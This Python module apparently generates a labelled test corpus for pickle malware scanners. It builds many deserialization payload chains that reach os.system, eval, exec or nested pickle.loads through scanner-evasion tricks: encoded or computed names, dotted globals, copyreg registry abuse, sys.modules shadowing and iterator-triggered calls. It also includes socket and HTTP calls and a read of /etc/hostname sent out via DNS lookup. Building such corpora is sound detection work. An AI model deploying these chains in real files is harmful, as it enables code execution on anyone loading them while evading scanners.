"""Harm in several calls: what is called is itself computed, looked up, registered, nested or built in the stream."""

import base64
import itertools
import zlib

from . import asm, gadgets, settings
from .asm import MARK, POP, REDUCE, TUPLE1, Raw, call, glob, named, octets, push, put, text, tuple_of
from .gadgets import CMD, CODE, DEEP, FILE, INNER, SYSTEM


def write(corpus, random):
    for family in (_attributes, _names_computed, _dotted, _registry, _nested, _code_objects, _modules, _copyreg, _operators, _iterators, _classes, _files):
        for name, harm, target in family():
            for protocol in sorted(random.sample(range(4) if family is _modules else (4, 5) if family in (_dotted, _classes, _iterators) else range(6), 2)):
                setting = random.choice((settings.bare, settings.popped, settings.in_dict))
                label = "latent" if target.startswith("?") else "malicious"
                stream = settings.dress(setting(harm), protocol)
                corpus.add(f"chain{family.__name__.replace('_', '-')}", f"p{protocol}-{name}.pkl", stream, label, target=target.lstrip("?"))
    _unregistered(corpus)
    _persistent(corpus)


def apply(function, *arguments):
    return call(function, *arguments)


MODULES = {
    "import": call("builtins:__import__", "os"),
    "import_module": call("importlib:import_module", "posix"),
    "importlib-import": call("importlib:__import__", "os"),
    "locate": call("pydoc:locate", "os"),
    "safeimport": call("pydoc:safeimport", "posix"),
    "resolve_name": call("pkgutil:resolve_name", "os"),
    "resolve_name-colon": call("pkgutil:resolve_name", "shutil:os"),
    "subimport": call("cloudpickle.cloudpickle:subimport", "os"),
    "dill-import": call("dill._dill:_import_module", "os"),
    "gcd_import": call("importlib._bootstrap:_gcd_import", "os"),
    "sys-modules": call("operator:getitem", glob("sys:modules"), "posix"),
    "posixpath-os": glob("posixpath:os"),
    "glob-os": glob("glob:os"),
}


def _attributes():
    """A module, an attribute of it, a call."""
    for name, module in MODULES.items():
        yield f"getattr-{name}", apply(call("builtins:getattr", module, "system"), CMD), "os.system"
        yield f"attrgetter-{name}", apply(apply(call("operator:attrgetter", "system"), module), CMD), "os.system"
        yield f"_attrgetter-{name}", apply(apply(call("_operator:attrgetter", "system"), module), CMD), "os.system"
        yield f"methodcaller-{name}", apply(call("operator:methodcaller", "system", CMD), module), "os.system"
    resolve = call("pkgutil:resolve_name", "os:system")
    yield "resolve_name-function", apply(resolve, CMD), "os.system"
    yield "locate-function", apply(call("pydoc:locate", "os.system"), CMD), "os.system"
    yield "warnings-getcategory", apply(call("warnings:_getcategory", "os.system"), CMD), "?os.system"
    yield "getattr-popen", apply(call("builtins:getattr", call("builtins:__import__", "os"), "popen"), CMD), "os.popen"
    yield "vars-getitem", apply(call("operator:getitem", call("builtins:vars", MODULES["import"]), "system"), CMD), "os.system"
    yield "attrgetter-dotted", apply(apply(call("operator:attrgetter", "path.os.system"), MODULES["import"]), CMD), "os.system"
    entry = call("importlib.metadata:EntryPoint", "n", "os:system", "g")
    yield "entry-point", apply(apply(call("operator:methodcaller", "load"), entry), CMD), "os.system"
    yield "globals-builtins", apply(call("operator:getitem", call("operator:getitem", call("builtins:vars", MODULES["import"]), "__builtins__"), "eval"), CODE), "builtins.eval"
    library = call("ctypes:CDLL", None)
    yield "ctypes-system", apply(call("builtins:getattr", library, "system"), CMD.encode()), "ctypes.CDLL"


def _computed(name, module, function):
    return name, apply(Raw(module + function + asm.STACK_GLOBAL), CMD), "os.system"


def _names_computed():
    """The names that STACK_GLOBAL takes are results of calls, so that no string in the file is one."""
    yield _computed("concat", call("operator:concat", "o", "s"), call("operator:concat", "sys", "tem"))
    yield _computed("add", call("operator:add", "o", "s"), text("system"))
    yield _computed("lower", apply(call("operator:methodcaller", "lower"), "OS"), apply(call("operator:methodcaller", "lower"), "SYSTEM"))
    yield _computed("replace", apply(call("operator:methodcaller", "replace", "x", ""), "oxs"), text("system"))
    yield _computed("join", apply(call("operator:methodcaller", "join", ["p", "o", "s", "i", "x"]), ""), text("system"))
    yield _computed("itemgetter", apply(call("operator:itemgetter", 1), ["collections", "os"]), apply(call("operator:itemgetter", 0), ["system"]))
    yield _computed("getitem-slice", call("operator:getitem", "so", call("builtins:slice", None, None, -1)), text("system"))
    yield _computed("str-of-bytes", call("builtins:str", b"os", "ascii"), call("builtins:str", b"system", "utf-8"))
    yield _computed("rot13", call("codecs:decode", "bf", "rot13"), call("codecs:decode", "flfgrz", "rot13"))
    yield _computed("hex", call("builtins:str", call("codecs:decode", b"6f73", "hex"), "ascii"), text("system"))
    for codec in ("utf-7", "utf-16", "utf-32", "latin1", "cp037", "unicode_escape", "raw_unicode_escape", "idna", "punycode"):
        encoded = [s.encode(codec) for s in ("os", "system")]
        yield _computed(f"codecs-{codec}", call("_codecs:decode", encoded[0], codec), call("_codecs:decode", encoded[1], codec))
    yield _computed("utf-7-shifted", call("_codecs:decode", b"+AG8Acw-", "utf-7"), text("system"))
    yield _computed("utf-8-bytes", call("operator:getitem", call("_codecs:utf_8_decode", b"os"), 0), text("system"))
    yield _computed("chr", call("operator:add", call("builtins:chr", 111), call("builtins:chr", 115)), text("system"))
    yield _computed("base64", call("builtins:str", call("base64:b64decode", base64.b64encode(b"os")), "ascii"), text("system"))
    yield _computed("zlib", call("builtins:str", call("zlib:decompress", zlib.compress(b"os")), "ascii"), text("system"))
    yield _computed("fspath", call("posix:fspath", "os"), text("system"))
    yield _computed("deque-pop", apply(call("operator:methodcaller", "pop"), call("collections:deque", ["system", "os"])), text("system"))
    yield _computed("chainmap", call("operator:getitem", call("collections:ChainMap", {"a": "os"}), "a"), text("system"))
    yield _computed("uuid-hex", apply(call("operator:attrgetter", "name"), call("pathlib:PurePosixPath", "/x/os")), text("system"))
    yield _computed("namespace", apply(call("operator:attrgetter", "a"), Raw(call("types:SimpleNamespace") + push({"a": "os"}) + asm.BUILD)), text("system"))


def _dotted():
    """From protocol 4 on an attribute may have dots: the module named is a harmless one that has imported another."""
    for module in ("shutil", "pathlib", "logging", "glob", "inspect", "gzip", "zipfile", "tarfile", "uuid", "platform",
                   "ctypes.util", "fileinput", "linecache", "webbrowser", "socketserver", "mimetypes", "asyncio.unix_events", "torch",
                   "joblib.memory", "sklearn.datasets._base", "pandas.io.common", "scipy.datasets._utils", "multiprocessing.util", "dill._dill"):
        yield f"{module}-os-system", apply(glob(f"{module}:os.system", "STACK_GLOBAL"), CMD), "os.system"
    for module, path in (("logging", "sys.modules.get"), ("collections", "_sys.modules.get"), ("random", "_os.system"), ("tempfile", "_os.system")):
        if path.endswith("system"):
            yield f"{module}-_os", apply(glob(f"{module}:{path}", "STACK_GLOBAL"), CMD), "os.system"
        else:
            found = apply(glob(f"{module}:{path}", "STACK_GLOBAL"), "posix")
            yield f"{module}-modules", apply(call("operator:methodcaller", "system", CMD), found), "os.system"
    yield "path-os", apply(glob("os:path.os.path.os.system", "STACK_GLOBAL"), CMD), "os.system"
    yield "GLOBAL-dotted", apply(glob("posixpath:os.system"), CMD), "os.system"
    yield "webbrowser-subprocess", apply(glob("webbrowser:subprocess.getoutput", "STACK_GLOBAL"), CMD), "subprocess.getoutput"
    yield "doctest-pdb", apply(glob("doctest:pdb.run", "STACK_GLOBAL"), CODE), "pdb.run"
    yield "builtins-self", apply(glob("builtins:print.__self__.eval", "STACK_GLOBAL"), CODE), "builtins.eval"
    yield "len-self", apply(glob("builtins:len.__self__.exec", "STACK_GLOBAL"), CODE), "builtins.exec"
    subclasses = apply(glob("builtins:object.__subclasses__", "STACK_GLOBAL"))
    yield "subclasses", call("operator:getitem", subclasses, 0), "?builtins.object.__subclasses__"
    globals_ = glob("collections:namedtuple.__globals__", "STACK_GLOBAL")
    yield "function-globals", apply(call("operator:getitem", call("operator:getitem", globals_, "__builtins__"), "eval"), CODE), "builtins.eval"
    yield "function-builtins", apply(call("operator:getitem", glob("copy:copy.__builtins__", "STACK_GLOBAL"), "eval"), CODE), "builtins.eval"
    yield "loader", apply(glob("os:__loader__.__class__.__init__.__globals__.get", "STACK_GLOBAL"), "x"), "?os"
    yield "builtins-get", apply(apply(glob("copy:copy.__builtins__.get", "STACK_GLOBAL"), "eval"), CODE), "builtins.eval"
    yield "globals-get", apply(call("operator:methodcaller", "system", CMD), apply(glob("shutil:copyfile.__globals__.get", "STACK_GLOBAL"), "os")), "os.system"


def _registry():
    """The extension registry: the stream registers a code and then uses it."""
    for opcode, code in ((b"\x82\x07", 7), (b"\x83\x39\x05", 1337), (b"\x84\x40\xe2\x01\x00", 123456)):
        registered = call("copyreg:add_extension", "os", "system", code)
        yield f"EXT-{code}", Raw(registered + POP + apply(Raw(opcode), CMD)), "os.system"
        clear = Raw(call("copyreg:clear_extension_cache") + POP)
        yield f"EXT-cache-{code}", Raw(registered + POP + clear + apply(Raw(opcode), CMD)), "os.system"
    by_item = Raw(glob("copyreg:_inverted_registry") + push(9) + tuple_of("os", "system") + asm.SETITEM + POP + apply(Raw(b"\x82\x09"), CMD))
    yield "EXT-inverted", by_item, "os.system"
    cached = Raw(glob("copyreg:_extension_cache") + push(11) + SYSTEM + asm.SETITEM + POP + glob("copyreg:_inverted_registry") + push(11)
                 + tuple_of("a", "b") + asm.SETITEM + POP + apply(Raw(b"\x82\x0b"), CMD))
    yield "EXT-extension-cache", cached, "posix.system"


def _unregistered(corpus):
    """Codes that only a program's own registry knows."""
    for n, opcode in enumerate((b"\x82\x01", b"\x83\x01\x01", b"\x84\x00\x00\x01\x00")):
        called = settings.dress(apply(Raw(opcode), CMD), 2)
        corpus.add("extension-unregistered", f"call-{n}.pkl", called, "unknown", expected="suspicious|malicious")
        corpus.add("extension-unregistered", f"value-{n}.pkl", settings.dress(Raw(opcode), 4), "unknown", expected="suspicious|malicious")


def _persistent(corpus):
    """Persistent ids: what they stand for is the program's affair; harm in the id is done before it is asked."""
    for protocol in (1, 2, 4):
        harm = Raw(call("posix:system", CMD) + asm.BINPERSID)
        corpus.add("persistent-id", f"p{protocol}-harm.pkl", settings.dress(harm, protocol), "malicious", target="posix.system")
        held = Raw(tuple_of("storage", SYSTEM, "0", "cpu", 1) + asm.BINPERSID)
        corpus.add("persistent-id", f"p{protocol}-held.pkl", settings.dress(held, protocol), "latent", target="posix.system")
        called = apply(Raw(b"Pos.system\n"), CMD)
        corpus.add("persistent-id", f"p{protocol}-called.pkl", settings.dress(called, protocol), "unknown", expected="suspicious|malicious")
        called = apply(Raw(push("anything") + asm.BINPERSID), CMD)
        corpus.add("persistent-id", f"p{protocol}-called-bin.pkl", settings.dress(called, protocol), "unknown", expected="suspicious|malicious")


def _nested():
    """A pickle in the bytes or text of another, with what loads it."""
    loaders = ("pickle:loads", "_pickle:loads", "pickle:_loads", "cPickle:loads", "dill:loads", "cloudpickle:loads", "joblib.externals.cloudpickle:loads",
               "torch.storage:_load_from_bytes", "multiprocessing.reduction:ForkingPickler.loads")
    wide = asm.whole(call("builtins:exec", DEEP), 4)
    for name, inner in itertools.product(loaders, (INNER, wide)):
        loader = glob(name, "STACK_GLOBAL") if "." in name.partition(":")[2] else glob(name)
        yield f"{name}-{len(inner)}", Raw(asm.proto(4) + apply(loader, inner)), name.replace(":", ".")
    twice = asm.whole(call("pickle:loads", INNER), 3)
    yield "twice", call("pickle:loads", twice), "pickle.loads"
    yield "bytearray", apply(glob("pickle:loads"), Raw(octets(INNER, "BYTEARRAY8"))), "pickle.loads"
    yield "bytes8", apply(glob("pickle:loads"), Raw(octets(INNER, "BINBYTES8"))), "pickle.loads"
    yield "encode-latin1", call("pickle:loads", call("_codecs:encode", INNER.decode(), "latin1")), "pickle.loads"
    yield "base64", call("pickle:loads", call("base64:b64decode", base64.b64encode(INNER))), "pickle.loads"
    yield "hex", call("pickle:loads", call("binascii:unhexlify", INNER.hex().encode())), "pickle.loads"
    yield "zlib", call("pickle:loads", call("zlib:decompress", zlib.compress(wide))), "pickle.loads"
    yield "bytesio", call("pickle:load", call("io:BytesIO", INNER)), "pickle.load"
    yield "_bytesio", call("_pickle:load", call("_io:BytesIO", INNER)), "_pickle.load"
    yield "torch-bytesio", call("torch:load", call("io:BytesIO", INNER)), "torch.load"
    yield "numpy-bytesio", call("numpy:load", call("io:BytesIO", INNER), None, True), "numpy.load"
    yield "joblib-bytesio", call("joblib:load", call("io:BytesIO", INNER)), "joblib.load"
    yield "pandas-bytesio", call("pandas:read_pickle", call("io:BytesIO", INNER)), "pandas.read_pickle"
    yield "shelf", call("operator:getitem", call("shelve:Shelf", {b"k": INNER}), "k"), "shelve.Shelf"
    unpickler = call("pickle:Unpickler", call("io:BytesIO", INNER))
    yield "unpickler-load", apply(call("operator:methodcaller", "load"), unpickler), "pickle.Unpickler"


def _code_objects():
    """Functions made in the stream and called."""
    code = gadgets.code_object(DEEP)
    yield "FunctionType", apply(apply(glob("types:FunctionType"), code, {})), "types.FunctionType"
    yield "LambdaType", apply(apply(glob("types:LambdaType"), code, {})), "types.LambdaType"
    yield "exec-compile", call("builtins:exec", code), "builtins.exec"
    yield "eval-compile", call("builtins:eval", code), "builtins.eval"
    yield "marshal", call("builtins:exec", call("marshal:loads", call("marshal:dumps", code))), "builtins.exec"
    yield "run_code", call("runpy:_run_code", code, {}), "runpy._run_code"
    yield "NEWOBJ-FunctionType", Raw(glob("types:FunctionType") + tuple_of(code, {}) + asm.NEWOBJ + asm.EMPTY_TUPLE + REDUCE), "types.FunctionType"
    yield "function-uncalled", apply(glob("types:FunctionType"), code, {}), "?types.FunctionType"
    yield "cloudpickle-make", apply(call("cloudpickle.cloudpickle:_make_function", code, {}, "f", (), None)), "cloudpickle.cloudpickle._make_function"
    yield "dill-create", apply(call("dill._dill:_create_function", code, {}, "f")), "dill._dill._create_function"
    yield "code-replace", call("builtins:exec", apply(call("operator:methodcaller", "replace"), code)), "builtins.exec"


def _modules():
    """sys.modules changed by the stream, so that a harmless name imports something else; protocols below 4, where names have no dots."""
    override = Raw(glob("sys:modules") + text("sys") + glob("sys:modules") + asm.SETITEM + POP)
    yield "sys-is-modules", Raw(override + apply(call("operator:methodcaller", "system", CMD), apply(glob("sys:get"), "os"))), "os.system"
    yield "sys-is-os", Raw(glob("sys:modules") + put(8) + POP + override + apply(glob("sys:get"), "os") + put(9) + POP
                           + asm.get(8) + text("sys") + asm.get(9) + asm.SETITEM + POP + apply(glob("sys:system"), CMD)), "os.system"
    alias = Raw(glob("sys:modules") + text("harmless") + apply(glob("operator:getitem"), glob("sys:modules"), "posix") + asm.SETITEM + POP)
    yield "alias", Raw(alias + apply(glob("harmless:system"), CMD)), "posix.system"
    shadow = Raw(glob("sys:modules") + text("collections") + apply(glob("operator:getitem"), glob("sys:modules"), "posix") + asm.SETITEM + POP)
    yield "shadow-collections", Raw(shadow + apply(glob("collections:system"), CMD)), "posix.system"
    patch = Raw(call("builtins:__import__", "math") + tuple_of(None, Raw(asm.EMPTY_DICT + text("sqrt") + SYSTEM + asm.SETITEM)) + asm.BUILD + POP)
    yield "patched-math", Raw(patch + apply(glob("math:sqrt"), CMD)), "posix.system"
    state = Raw(call("builtins:__import__", "math") + asm.EMPTY_DICT + text("floor") + SYSTEM + asm.SETITEM + asm.BUILD + POP)
    yield "module-state", Raw(state + apply(glob("math:floor"), CMD)), "posix.system"
    yield "setattr", Raw(call("builtins:setattr", call("builtins:__import__", "math"), "ceil", SYSTEM) + POP + apply(glob("math:ceil"), CMD)), "posix.system"
    path = Raw(glob("sys:path") + text("/nonexistent") + asm.APPEND)
    yield "path", path, "?sys.path"
    environ = Raw(glob("os:environ") + text("PYTHONSTARTUP") + text(FILE) + asm.SETITEM)
    yield "environ", environ, "os.environ"


def _copyreg():
    yield "newobj", call("copyreg:__newobj__", glob("subprocess:Popen"), ["echo", "m"]), "?subprocess.Popen"
    built = call("copyreg:_reconstructor", glob("argparse:Namespace"), glob("builtins:object"), None)
    yield "reconstructor-setstate", Raw(built + asm.EMPTY_DICT + text("__setstate__") + SYSTEM + asm.SETITEM + asm.BUILD + push(CMD) + asm.BUILD), "posix.system"
    yield "copy-reconstruct", call("copy:_reconstruct", None, None, SYSTEM, (CMD,)), "posix.system"
    reduced = Raw(_namespace_with("__reduce_ex__", call("functools:partial", glob("builtins:eval"), CODE)))
    yield "dispatch", Raw(call("copyreg:pickle", glob("builtins:complex"), SYSTEM) + POP + reduced), "?copyreg.pickle"
    mapped = Raw(glob("builtins:map") + tuple_of(SYSTEM, [CMD]) + asm.NEWOBJ)
    yield "newobj-map", call("copyreg:__newobj__", glob("builtins:tuple"), mapped), "posix.system"
    yield "newobj_ex-map", call("copyreg:__newobj_ex__", glob("builtins:tuple"), (mapped,), {}), "posix.system"


def _namespace_with(name, value):
    return call("types:SimpleNamespace") + asm.EMPTY_DICT + text(name) + value + asm.SETITEM + asm.BUILD


def _operators():
    yield "call", call("operator:call", SYSTEM, CMD), "posix.system"
    yield "methodcaller-call", apply(call("operator:methodcaller", "__call__", CMD), SYSTEM), "posix.system"
    yield "reduce-partial", call("functools:reduce", call("functools:partial", glob("builtins:exec")), [{}], CODE), "builtins.exec"
    yield "attrgetter-call", apply(apply(call("operator:attrgetter", "__call__"), SYSTEM), CMD), "posix.system"
    yield "partial-keywords", Raw(glob("functools:partial") + asm.tuple_of(SYSTEM) + push({"command": CMD}) + asm.NEWOBJ_EX + asm.EMPTY_TUPLE + REDUCE), "posix.system"
    partial = Raw(glob("functools:partial") + tuple_of(glob("builtins:print")) + asm.NEWOBJ + tuple_of(SYSTEM, (CMD,), {}, None) + asm.BUILD)
    yield "partial-setstate", Raw(partial + asm.EMPTY_TUPLE + REDUCE), "posix.system"
    nested = call("functools:partial", call("functools:partial", SYSTEM), CMD)
    yield "partial-nested", apply(nested), "posix.system"
    yield "contextvars-run", apply(call("operator:methodcaller", "run", SYSTEM, CMD), call("contextvars:Context")), "posix.system"
    yield "exitstack", apply(call("operator:methodcaller", "close"), Raw(_exit_stack())), "posix.system"
    timer = call("threading:Timer", 0, SYSTEM, [CMD])
    yield "timer", apply(call("operator:methodcaller", "start"), timer), "posix.system"
    thread = call("threading:Thread", None, SYSTEM, None, (CMD,))
    yield "thread", apply(call("operator:methodcaller", "run"), thread), "posix.system"
    yield "thread-started", apply(call("operator:methodcaller", "start"), thread), "posix.system"
    yield "mock", apply(Raw(call("unittest.mock:Mock", None, SYSTEM)), CMD), "posix.system"
    yield "lru_cache", apply(apply(call("functools:lru_cache", 1), SYSTEM), CMD), "posix.system"
    yield "cmp_to_key", call("builtins:max", [CMD]), "?builtins.max"
    yield "sub", call("re:sub", "x", glob("builtins:breakpoint"), "x"), "builtins.breakpoint"
    yield "missing", call("operator:getitem", call("collections:defaultdict", call("functools:partial", SYSTEM, CMD)), "a"), "posix.system"
    yield "finalize", call("weakref:finalize", call("argparse:Namespace"), SYSTEM, CMD), "posix.system"


def _exit_stack():
    """An ExitStack that has a callback: the call's result is dropped, the stack fetched from the memo."""
    return call("contextlib:ExitStack") + put(60) + POP + apply(call("operator:methodcaller", "callback", SYSTEM, CMD), Raw(asm.get(60))) + POP + asm.get(60)


def _iterators():
    """Calls made by iterating: no opcode calls the function."""
    for lazy in ("builtins:map", "builtins:filter", "itertools:takewhile", "itertools:dropwhile", "itertools:filterfalse", "itertools:groupby"):
        arguments = ([CMD], SYSTEM) if lazy.endswith("groupby") else (SYSTEM, [CMD])
        for eager in ("builtins:list", "builtins:tuple", "builtins:set", "builtins:sum", "builtins:any", "collections:deque", "builtins:dict"):
            if eager in ("builtins:list", "collections:deque") or lazy == "builtins:map" and eager != "builtins:dict":
                yield f"{lazy}-{eager}", call(eager, call(lazy, *arguments)), "posix.system"
    yield "starmap", call("builtins:list", call("itertools:starmap", SYSTEM, [(CMD,)])), "posix.system"
    yield "accumulate", call("builtins:list", call("itertools:accumulate", [CODE, {}], glob("builtins:exec"))), "builtins.exec"
    yield "next", call("builtins:next", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "iter-sentinel", call("builtins:next", call("builtins:iter", call("functools:partial", SYSTEM, CMD), 1)), "posix.system"
    yield "bytes-NEWOBJ", Raw(glob("builtins:bytes") + TUPLE_OF_MAP + asm.NEWOBJ), "posix.system"
    yield "bytearray", call("builtins:bytearray", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "list-extend", Raw(asm.EMPTY_LIST + put(50) + POP + apply(glob("builtins:list.extend", "STACK_GLOBAL"), Raw(asm.get(50)), call("builtins:map", SYSTEM, [CMD]))), "posix.system"
    yield "dict-fromkeys", apply(glob("builtins:dict.fromkeys", "STACK_GLOBAL"), call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "str-join", apply(glob("builtins:str.join", "STACK_GLOBAL"), "", call("builtins:map", glob("subprocess:getoutput"), [CMD])), "subprocess.getoutput"
    yield "OrderedDict", call("collections:OrderedDict", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "Counter", call("collections:Counter", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "sorted-key", apply(_with_keywords("builtins:sorted", [CMD], key=SYSTEM)), "posix.system"
    yield "max-key", apply(_with_keywords("builtins:max", [CMD], key=SYSTEM)), "posix.system"
    yield "numpy-vectorize", apply(call("numpy:vectorize", SYSTEM), [CMD]), "posix.system"
    yield "numpy-frompyfunc", apply(call("numpy:frompyfunc", SYSTEM, 1, 1), [CMD]), "posix.system"


def _with_keywords(function, *arguments, **keywords):
    """functools.partial made by NEWOBJ_EX, which alone passes keywords."""
    words = asm.EMPTY_DICT + b"".join(text(k) + push(v) + asm.SETITEM for k, v in keywords.items())
    return Raw(glob("functools:partial") + tuple_of(glob(function), *arguments) + words + asm.NEWOBJ_EX)


TUPLE_OF_MAP = tuple_of(call("builtins:map", SYSTEM, [CMD]))


def _classes():
    """Classes made in the stream, whose methods opcodes call."""

    def made(base, **methods):
        members = asm.EMPTY_DICT + b"".join(text(k) + v + asm.SETITEM for k, v in methods.items())
        return call("builtins:type", "X", (glob(base),) if base else (), Raw(members))

    yield "append", Raw(apply(made("collections:UserList", append=SYSTEM)) + push(CMD) + asm.APPEND), "posix.system"
    yield "setitem", Raw(apply(made("", __setitem__=glob("builtins:exec"))) + push(CODE) + push({}) + asm.SETITEM), "builtins.exec"
    yield "setstate", Raw(apply(made("", __setstate__=SYSTEM)) + push(CMD) + asm.BUILD), "posix.system"
    yield "init", call(made("", __init__=SYSTEM), CMD), "posix.system"
    static = call("builtins:staticmethod", SYSTEM)
    yield "add", Raw(apply(made("", add=static)) + MARK + push(CMD) + asm.ADDITEMS), "posix.system"
    yield "property", apply(call("operator:attrgetter", "x"), apply(made("", x=call("builtins:property", SYSTEM)))), "?posix.system"
    yield "class-getitem", call("operator:getitem", made("", __class_getitem__=static), CMD), "posix.system"
    yield "init-subclass", call("types:new_class", "Y", (made("", __init_subclass__=call("functools:partial", SYSTEM, CMD)),)), "posix.system"
    yield "del", apply(made("", __del__=call("functools:partial", SYSTEM, CMD))), "posix.system"
    yield "hash", Raw(asm.EMPTY_DICT + apply(made("", __hash__=call("functools:partial", SYSTEM, CMD))) + push(1) + asm.SETITEM), "posix.system"
    yield "namedtuple-defaults", call("collections:namedtuple", "N", ["a"]), "?collections.namedtuple"


def _files():
    """Files written step by step, as the published chains do."""
    handle = call("builtins:open", FILE, "w")
    yield "open-write", apply(call("operator:methodcaller", "write", "m"), handle), "builtins.open"
    yield "io-open-write", apply(call("operator:methodcaller", "write", b"m"), call("_io:FileIO", FILE, "w")), "_io.FileIO"
    yield "path-write", apply(call("operator:methodcaller", "write_text", "m"), call("pathlib:PosixPath", FILE)), "pathlib.PosixPath"
    yield "path-open", apply(call("operator:methodcaller", "open", "w"), call("pathlib:Path", FILE)), "pathlib.Path"
    yield "logging", apply(call("operator:methodcaller", "warning", "m"), call("logging:FileHandler", FILE)), "logging.FileHandler"
    request = apply(call("operator:methodcaller", "request", "GET", "/"), call("http.client:HTTPConnection", gadgets.HOST, 9))
    yield "http-request", request, "http.client.HTTPConnection"
    yield "socket-connect", apply(call("operator:methodcaller", "connect", (gadgets.HOST, 9)), call("socket:socket")), "socket.socket"
    read = apply(call("operator:methodcaller", "read"), call("builtins:open", "/etc/hostname"))
    yield "read-and-send", call("socket:gethostbyname", read), "socket.gethostbyname"
